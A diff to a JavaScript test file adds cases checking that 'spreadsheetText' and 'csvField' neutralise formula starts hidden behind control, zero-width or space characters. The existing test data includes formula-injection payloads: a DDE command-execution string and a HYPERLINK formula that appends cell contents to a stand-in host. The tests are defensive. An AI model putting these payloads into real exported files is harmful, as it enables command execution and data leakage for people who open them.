@@ -5,6 +5,10 @@ describe("spreadsheetText and csvField", () => {
   it.each(["=1+1", "+1", "-1", "@SUM(A1)", "\t=1", "\r=1", '=HYPERLINK("http://x"&A1,"点击")', "=cmd|' /C calc'!A0"])("neutralizes %j with a leading apostrophe", (text) => {
     expect(spreadsheetText(text)).toBe(`'${text}`);
   });
+  it.each(["\u0000=1+1", "\u0000\u0000=1+41", "\u200b=1+1", "\ufeff+1", " -1", "\u00ad@SUM(A1)", "\u0001\u007f=1"])("neutralizes %j: a formula start behind control, invisible or space characters", (text) => {
+    expect(spreadsheetText(text)).toBe(`'${text}`);
+    expect(csvField(text)).toBe(`'${text}`);
+  });
   it("leaves ordinary text and numbers as they are", () => {
     expect(spreadsheetText("衢州市某某协会")).toBe("衢州市某某协会");
     expect(csvField(-5)).toBe("-5");
